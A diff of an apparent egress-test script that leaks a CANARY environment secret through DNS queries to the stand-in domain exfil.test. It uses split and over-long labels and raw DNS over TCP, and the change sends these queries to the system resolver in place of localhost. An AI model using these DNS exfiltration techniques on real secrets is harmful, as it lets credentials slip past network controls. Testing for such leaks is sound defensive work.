@@ -6,6 +6,8 @@ import { connect } from 'node:net';
 const secret = process.env.CANARY;
 const name = `${secret.match(/.{1,8}/g).join('.')}.exfil.test`;
 const resolver = new Resolver({ timeout: 1000, tries: 1 });
+// A machine of its own has another than a container.
+const [server] = resolver.getServers();
 const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
 const ask = (what, type) => resolver.resolve(what, type).catch((error) => console.log(error.code));
 
@@ -20,7 +22,7 @@ const option = (text) =>
 
 async function send(bytes) {
   const socket = createSocket('udp4');
-  await new Promise((resolve) => socket.send(bytes, 53, '127.0.0.1', resolve));
+  await new Promise((resolve) => socket.send(bytes, 53, server, resolve));
   await wait(200);
   socket.close();
 }
@@ -32,7 +34,7 @@ const ways = {
   'long-labels': () => ask(`${secret.padEnd(63, 'x')}.${'y'.repeat(63)}.${'z'.repeat(63)}.exfil.test`, 'AAAA'),
   'over-tcp': async () => {
     const bytes = message(1, 0, question(`${secret}.exfil.test`, 1));
-    connect(53, '127.0.0.1', function () {
+    connect(53, server, function () {
       this.end(Buffer.concat([Buffer.from([0, bytes.length]), bytes]));
     }).on('error', (error) => console.log(error.code));
     await wait(200);
